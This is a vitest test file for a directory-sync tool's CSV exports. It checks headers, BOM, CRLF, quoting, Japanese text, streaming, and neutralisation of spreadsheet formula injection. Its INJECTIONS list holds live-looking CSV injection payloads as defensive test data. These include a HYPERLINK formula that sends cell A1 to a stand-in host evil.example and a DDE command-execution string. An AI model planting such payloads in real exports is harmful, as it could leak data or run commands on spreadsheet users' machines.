// Tests of the plan and run CSVs: exact header, BOM, CRLF, RFC 4180 round trip, Japanese text, formula neutralisation.
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvCell, neutraliseFormula } from '../../src/sync/csv-cell.js';
import type { RunRecord, SourceUser } from '../../src/sync/model.js';
import { buildPlan } from '../../src/sync/plan.js';
import { PLAN_CSV_COLUMNS, planCsv, planCsvByteSize, planCsvChunks, planCsvStream } from '../../src/sync/plan-csv.js';
import { runCsv, runCsvChunks } from '../../src/sync/run-csv.js';
import { DOMAIN, entraUser, settings, snapshot } from './fixtures.js';

const HEADER = 'Action,UserPrincipalName,ImmutableId,DisplayName,GivenName,Surname,ChangedAttributes,Note';
const meta = { id: 'p', now: '2026-11-26T00:00:00.000Z' };
const rows = (csv: string): string[][] => parse(csv.slice(1), { relaxColumnCount: false, record_delimiter: '\r\n' });

/** What a spreadsheet would evaluate: a cell whose first non-blank character starts a formula, or a leading tab/CR/LF. */
const evaluates = (cell: string): boolean =>
  /^[\t\r\n]/.test(cell) || /^[ \u00A0\u3000\u2000-\u200B\uFEFF\v\f\t\r\n]*[=+\-@＝＋－＠]/.test(cell);

const INJECTIONS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+SUM(1,2)',
  '-2+3',
  '@SUM(A1)',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  '   =1+1',
  '\t=1+1',
  '\u3000=1',
  '\r=1',
  '\n=cmd|" /C calc"!A0',
  '\u2003=1+1',
  '\u200B=1+1',
  '\uFEFF=1+1',
  '\v=1+1',
  '\f=1+1',
];

describe('plan CSV', () => {
  const source: SourceUser[] = [
    {
      userPrincipalName: `yamada@${DOMAIN}`,
      immutableId: 'I1',
      displayName: '山田 太郎',
      givenName: '太郎',
      surname: '山田',
      jobTitle: '課長, 営業',
    },
    { userPrincipalName: `b@${DOMAIN}`, immutableId: 'I2', displayName: 'Bob "the" Builder' },
  ];
  const plan = buildPlan(
    snapshot({
      source,
      entra: [
        entraUser({
          id: 'e2',
          userPrincipalName: `b@${DOMAIN}`,
          onPremisesImmutableId: 'I2',
          displayName: 'Bob',
          mailNickname: 'b',
        }),
        entraUser({ id: 'e3', userPrincipalName: `gone@${DOMAIN}`, displayName: '削除 予定' }),
        entraUser({ id: 'g', userPrincipalName: `guest@${DOMAIN}`, userType: 'Guest', displayName: 'Guest' }),
      ],
      deleted: [],
    }),
    settings({ maxDeletionPercent: 100 }),
    meta,
  );
  const csv = planCsv(plan);

  it('starts with a BOM and the exact header, ends every record with CRLF', () => {
    expect(csv.startsWith(`\uFEFF${HEADER}\r\n`)).toBe(true);
    expect(PLAN_CSV_COLUMNS.join(',')).toBe(HEADER);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replaceAll('\r\n', '').includes('\n')).toBe(false);
  });

  it('round-trips through an RFC 4180 parser with Japanese text intact, rows in plan order', () => {
    const parsed = rows(csv);
    expect(parsed[0]).toEqual([...PLAN_CSV_COLUMNS]);
    expect(parsed.slice(1).map((r) => r[0])).toEqual(['Add', 'Update', 'Delete', 'Skip']);
    const add = parsed[1]!;
    expect(add.slice(0, 6)).toEqual(['Add', `yamada@${DOMAIN}`, 'I1', '山田 太郎', '太郎', '山田']);
    expect(add[6]).toContain('jobTitle: "" → "課長, 営業"');
    expect(add[7]).toBe('no licence assigned');
    expect(parsed[2]![6]).toBe('displayName: "Bob" → "Bob "the" Builder"');
    expect(parsed[3]).toEqual([
      'Delete',
      `gone@${DOMAIN}`,
      '',
      '削除 予定',
      '',
      '',
      '',
      'delete (restorable for 30 days)',
    ]);
    expect(parsed[4]![7]).toBe('guest user');
    expect(Buffer.from(csv, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });

  it('shows a restore as Add with its note', () => {
    const restore = buildPlan(
      snapshot({
        source: [{ userPrincipalName: `r@${DOMAIN}`, immutableId: 'IR', displayName: 'R' }],
        deleted: [{ id: 'd1', userPrincipalName: `r@${DOMAIN}`, onPremisesImmutableId: 'IR', deletedDateTime: null }],
      }),
      settings(),
      meta,
    );
    const [, row] = rows(planCsv(restore));
    expect(row![0]).toBe('Add');
    expect(row![7]).toBe('restore soft-deleted user');
  });

  it('neutralises every cell a spreadsheet would evaluate', () => {
    const evil = INJECTIONS.map((name, i) => ({
      userPrincipalName: `u${i}@${DOMAIN}`,
      immutableId: `X${i}`,
      displayName: name,
      givenName: name,
      surname: '=1',
    }));
    const evilPlan = buildPlan(
      snapshot({
        source: evil,
        entra: [entraUser({ id: 'z', userPrincipalName: `z@${DOMAIN}`, displayName: '+cmd' })],
      }),
      settings({ maxDeletionPercent: 100 }),
      meta,
    );
    const parsed = rows(planCsv(evilPlan));
    const cells = parsed.flat();
    expect(cells.filter(evaluates)).toEqual([]);
    // The text itself is kept, behind one apostrophe.
    expect(parsed[1]![3]).toBe(`'${INJECTIONS[0]}`);
    for (const s of INJECTIONS) expect(neutraliseFormula(s)).toBe(`'${s}`);
    for (const s of ['Alice', '山田', 'a=b', ' x', '']) expect(neutraliseFormula(s)).toBe(s);
    expect(csvCell('a,"b"')).toBe('"a,""b"""');
    // A spreadsheet that also splits on ; or TAB must see one cell.
    expect(csvCell('Sato;=1+1')).toBe('"Sato;=1+1"');
    expect(csvCell('Sato\t=1+1')).toBe('"Sato\t=1+1"');
  });

  it('streams in blocks that join to the same text, from the plan or page by page from its stored chunks', async () => {
    expect([...planCsvChunks(plan)].join('')).toBe(csv);
    async function* pages() {
      for (let i = 0; i < plan.changes.length; i += 2) yield plan.changes.slice(i, i + 2);
    }
    let streamed = '';
    for await (const block of planCsvStream(pages())) streamed += block;
    expect(streamed).toBe(csv);
  });

  it('counts its size in UTF-8 bytes while streaming (the BOM and Japanese text are several bytes a character)', () => {
    expect(planCsvByteSize(plan)).toBe(Buffer.byteLength(csv, 'utf8'));
    expect(planCsvByteSize(plan)).toBeGreaterThan(csv.length);
  });
});

describe('run CSV', () => {
  it('lists per-user outcomes with the same encoding and neutralisation', () => {
    const run = {
      outcomes: [
        { action: 'Add', upn: `a@${DOMAIN}`, immutableId: 'I1', result: 'done', restored: true },
        {
          action: 'Update',
          upn: `b@${DOMAIN}`,
          immutableId: 'I2',
          result: 'failed',
          errorKind: 'bad_request',
          errorCode: 'Request_BadRequest',
          errorMessage: '=invalid value, "x"',
        },
      ],
      approvedBy: 'Ada Admin',
      approvedById: 'aad-1',
    } as Pick<RunRecord, 'outcomes' | 'approvedBy' | 'approvedById'>;
    const csv = runCsv(run);
    expect(
      csv.startsWith(
        '\uFEFFAction,UserPrincipalName,ImmutableId,Result,ErrorCode,ErrorMessage,ApprovedBy,ApprovedByObjectId\r\n',
      ),
    ).toBe(true);
    const parsed = rows(csv);
    expect(parsed[1]).toEqual(['Add', `a@${DOMAIN}`, 'I1', 'done (restored)', '', '', 'Ada Admin', 'aad-1']);
    expect(parsed[2]).toEqual([
      'Update',
      `b@${DOMAIN}`,
      'I2',
      'failed',
      'Request_BadRequest',
      `'=invalid value, "x"`,
      'Ada Admin',
      'aad-1',
    ]);
  });

  it('streams the same bytes from outcome pages, reading each page only when the previous one is written', async () => {
    const outcome = (i: number) =>
      ({
        action: 'Update',
        upn: `u${i}@${DOMAIN}`,
        immutableId: `I${i}`,
        result: i % 7 === 0 ? 'failed' : 'done',
        ...(i % 7 === 0 ? { errorCode: 'Request_BadRequest', errorMessage: `+bad ${i}` } : {}),
      }) as const;
    const all = Array.from({ length: 3_000 }, (_, i) => outcome(i));
    const who = { approvedBy: 'Ada Admin', approvedById: 'aad-1' };
    const served: number[] = [];
    async function* pages() {
      for (let i = 0; i < all.length; i += 1_000) {
        served.push(i);
        yield all.slice(i, i + 1_000);
      }
    }
    let text = '';
    const seenWhenFirstBlock: number[] = [];
    for await (const block of runCsvChunks(who, pages())) {
      if (text.length > 0 && seenWhenFirstBlock.length === 0) seenWhenFirstBlock.push(served.length);
      text += block;
    }
    expect(text).toBe(runCsv({ ...who, outcomes: all }));
    // The first rows went out when only the first page had been read.
    expect(seenWhenFirstBlock).toEqual([1]);
    expect(served).toEqual([0, 1_000, 2_000]);
  });
});
